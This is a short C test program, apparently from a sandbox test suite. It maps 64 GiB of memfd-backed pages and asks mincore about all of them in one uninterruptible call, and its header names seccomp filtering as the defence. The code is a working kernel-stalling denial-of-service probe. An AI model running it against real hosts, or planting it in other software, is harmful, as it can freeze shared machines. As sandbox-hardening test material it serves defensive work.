/* Asks in one call which pages of 64 GiB are there: the kernel looks at no signal until it is through, and nothing ends it.
 * goal: an answer
 * stopped by: the system call filter, which knows how much is asked about
 * first: seccomp
 * second: -
 * alone: the kernel has no limit on it
 */
#include "attack.h"
int main(void) {
    const size_t file = 16u << 20, all = 64ul << 30, answers = all >> 12, part = 2u << 20;
    int one = memfd_create("one", 0), other = memfd_create("other", 0);
    if (one < 0 || other < 0 || ftruncate(one, file) || ftruncate(other, part)) return tried();
    char *place = mmap(NULL, all, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    char *told = mmap(NULL, answers, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    if (place == MAP_FAILED || told == MAP_FAILED) return tried();
    for (size_t at = 0; at < all; at += file)
        if (mmap(place + at, file, PROT_READ, MAP_SHARED | MAP_FIXED, one, 0) == MAP_FAILED) return tried();
    for (size_t at = 0; at < answers; at += part)
        if (mmap(told + at, part, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, other, 0) == MAP_FAILED) return tried();
    if (mincore(place, all, (unsigned char *)told) == 0) reached("an answer about %zu GiB", all >> 30);
    return tried();
}
